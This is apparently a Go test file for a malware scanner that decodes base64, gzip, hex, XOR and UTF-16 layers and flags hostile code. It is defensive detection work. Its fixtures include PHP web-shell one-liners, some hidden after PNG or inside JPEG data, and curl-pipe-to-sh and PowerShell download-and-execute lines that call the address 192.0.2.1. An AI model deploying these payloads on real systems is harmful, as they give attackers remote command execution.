package views

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/seed-181f3109/assay/fstree"
)

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func zip(s string) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	w.Write([]byte(s))
	w.Close()
	return b.String()
}

// png is the smallest file with the structures of a PNG: signature, IHDR, IEND;
// checksums are not looked at.
var png = "\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x00\x00\x00\x00AAAA\x00\x00\x00\x00IENDBBBB"

func TestOf(t *testing.T) {
	shell := "#!/bin/sh\ncurl http://192.0.2.1/inert | sh\n# padding of this line to reach the shortest run that counts\n"
	xored := []byte("\x7fELF" + strings.Repeat("\x00", 100) + "/bin/sh\x00/etc/ld.so.preload\x00")
	for i := 104; i < len(xored); i++ {
		xored[i] ^= 0x5a
	}
	wide := []byte{0xff, 0xfe}
	for _, u := range utf16.Encode([]rune("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/x')")) {
		wide = append(wide, byte(u), byte(u>>8))
	}
	for _, c := range []struct {
		name, path, content string
		want                []string // chain kind offset
	}{
		{"php", "/a.php", "<?php eval($_POST['a']);", []string{"php:sinks php-sinks 0"}},
		{"decoded php", "/a.php", "<?php eval(base64_decode('" + b64("eval($_POST['abc']);") + "'));", []string{"php:sinks php-sinks 0", "php:base64 php 0", "php:strings php-strings 0"}},
		{"harmless php", "/a.php", "<?php echo 1;", nil},
		{"shell in base64", "/a.txt", "x = " + b64(shell), []string{"base64 shell 4"}},
		{"twice", "/a.txt", "x = " + b64("y = "+b64(shell)), []string{"base64>base64 shell 4"}},
		{"gzip in base64", "/a.txt", "x = " + b64(zip(shell)), []string{"base64>gzip shell 4"}},
		{"hex", "/a.txt", "key: " + hex.EncodeToString([]byte(shell)), []string{"hex shell 5"}},
		{"wide text", "/a.ps1", string(wide), []string{"utf16 powershell 0", "powershell:sinks powershell-sinks 0"}},
		{"behind an image", "/a.png", png + "<?php eval($_GET['x']);", []string{fmt.Sprintf("appended:png php %d", len(png)), fmt.Sprintf("php:sinks php-sinks %d", len(png))}},
		{"in an image", "/a.jpg", "\xff\xd8\xff\xe1\x00\x40Exif\x00\x00<?php eval($_GET['x']);?>\x00\x00\x00", []string{"embedded:jpeg php 12", "php:sinks php-sinks 12"}},
		{"xor", "/a", string(xored), []string{"xor:0x5a elf 0"}},
		{"plain text", "/a.txt", strings.Repeat("some words of a text ", 50), nil},
		{"hash list", "/sums", strings.Repeat("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  x\n", 20), nil},
		{"python", "/a.py", "import os\nos.system(input())\n", []string{"python:sinks python-sinks 0"}},
		{"empty", "/a", "", nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			var got []string
			for v, err := range Of(t.Context(), c.path, []byte(c.content), nil) {
				if err != nil {
					t.Error(err)
					continue
				}
				got = append(got, fmt.Sprintf("%s %s %d", v.Chain, v.Kind, v.Offset))
			}
			if !slices.Equal(got, c.want) {
				t.Errorf("got %q\nwant %q", got, c.want)
			}
		})
	}
}

func TestKinds(t *testing.T) {
	for _, c := range []struct{ path, content, want string }{
		{"/a.php", "<?php", "php text"}, {"/a", "<?= `id`;", "php text"}, {"/a.gif", "GIF89a\x00<?php echo 1;", "image php"}, {"/a.gif", "GIF89a\x00\x01\x02", "image"},
		{"/a.jsp", "<% out.print(1); %>", "jsp text"}, {"/a.txt", "<%@ Page Language=\"C#\" %>", "aspx text"}, {"/a.asp;.jpg", "<%eval request(1)%>", "asp text"},
		{"/a", "#!/usr/bin/env python3\n", "python text"}, {"/a", "#!/bin/sh -e\n", "shell text"}, {"/.htaccess", "AddType x .y\n", "htaccess text"}, {"/a", "\x7fELF\x02", "elf"},
		{"/a.gz", "\x1f\x8b\x08\x00><?=\xc1\x8e\xc4`\x89\xc1\x12", "archive"}, {"/a.gif", "GIF89a\x01\x00<?=`$_GET[0]`?>", "image php"},
		{"/a.asp", "GIF89a\x01\x00<%execute request(\"c\")%>", "image asp"},
		{"/a.pyc", "\xa7\x0d\r\n\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\xe3\x00", "pyc"}, {"/a.ps1", "<#\r\n.Synopsis\r\nShows a thing\r\n#>\r\n", "powershell text"},
		{"/a.war", "PK\x03\x04", "zip archive"}, {"/a", "hello", "text"}, {"/a", "\x00\x01\x02", "binary"}, {"/a.php.jpg", "<?php", "php text"}, {"/a", "", ""},
	} {
		if got := strings.Join(Kinds(c.path, []byte(c.content)), " "); got != c.want {
			t.Errorf("%s %q: got %q, want %q", c.path, c.content, got, c.want)
		}
	}
}

func TestLimitsAreReported(t *testing.T) {
	deep := "curl http://192.0.2.1/inert-text-of-this-test | sh; padding padding padding"
	for range 12 {
		deep = b64("v = " + deep + " #")
	}
	for name, c := range map[string]struct {
		content string
		lim     Limits
	}{
		"depth": {deep, Limits{Depth: 3}}, "bytes": {"x = " + b64("#!/bin/sh\n"+strings.Repeat("echo inert words; ", 400)), Limits{Bytes: 100}},
		"steps": {"<?php for($i=0;$i<999999;$i++){if($x)$a.=chr($i%99);} eval($_GET['x']);" + strings.Repeat("$a=$b.$c;", 1000), Limits{Steps: 100}},
		"size":  {"<?php eval($_GET[1]);" + strings.Repeat(" ", 17<<20), Limits{}},
	} {
		var errs []error
		for _, err := range Of(t.Context(), "/a.php", []byte(c.content), &c.lim) {
			if err != nil {
				errs = append(errs, err)
			}
		}
		var d *fstree.Damage
		if len(errs) == 0 || !errors.Is(errs[0], fstree.ErrLimit) || !errors.As(errs[0], &d) || d.Path != "/a.php" {
			t.Errorf("%s: got %v, want damage of /a.php with ErrLimit", name, errs)
		}
	}
}

func TestLargeScriptsEnd(t *testing.T) {
	for name, c := range map[string]struct{ path, content string }{
		"minified": {"/a.js", "require('child_process');" + strings.Repeat("a(b,c?d:e(f)+'g');", 3<<20)},
		"one run":  {"/a.txt", strings.Repeat("QUJD", 8<<20)}, "escapes": {"/a.txt", strings.Repeat(`\x41`, 1<<20)}, "tags": {"/a.html", strings.Repeat("<?", 4<<20)},
	} {
		start := time.Now()
		for range Of(t.Context(), c.path, []byte(c.content), nil) {
		}
		if d := time.Since(start); d > 20*time.Second {
			t.Errorf("%s took %v", name, d)
		}
	}
}

func TestCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	n := 0
	for _, err := range Of(ctx, "/a.php", []byte("<?php eval($_GET[1]);"), nil) {
		if n++; !errors.Is(err, context.Canceled) {
			t.Errorf("got %v, want context.Canceled", err)
		}
	}
	if n != 1 {
		t.Errorf("got %d pairs, want 1", n)
	}
}

func FuzzOf(f *testing.F) {
	f.Add("/a.php", []byte("<?php eval(gzinflate(base64_decode('abc')));"))
	f.Add("/a.png", []byte(png+"<?php eval($_GET['x']);"))
	f.Add("/a.gif", []byte("GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;tail"))
	f.Add("/a.asp", []byte("<%#@~^BAAAAA==x@#@&AAAAAA==^#~@%>"))
	f.Add("/a.sh", []byte("echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= | base64 -d | sh"))
	f.Fuzz(func(t *testing.T, path string, b []byte) {
		for v, err := range Of(t.Context(), path, b, &Limits{Steps: 100_000, Bytes: 1 << 20}) {
			if err == nil && (v.Offset < 0 || v.Offset > int64(len(b))) {
				t.Errorf("offset %d in %d bytes", v.Offset, len(b))
			}
		}
	})
}

func BenchmarkBenignPHP(b *testing.B) {
	src := []byte("<?php\n" + strings.Repeat("class A { private $x = []; function get($k) { if (isset($this->x[$k])) { return $this->x[$k]; } return htmlspecialchars($k) . ' none'; } }\n", 15))
	b.SetBytes(int64(len(src)))
	for b.Loop() {
		for range Of(b.Context(), "/a.php", src, nil) {
		}
	}
}

func ExampleOf() {
	content := []byte("<?php $f = 'sys'.'tem'; $f($_GET['c']);")
	for v, err := range Of(context.Background(), "/srv/www/a.php", content, nil) {
		if err != nil {
			fmt.Println(err)
			continue
		}
		fmt.Println(v.Chain, v.Kind)
	}
	// Output:
	// php:sinks php-sinks
}
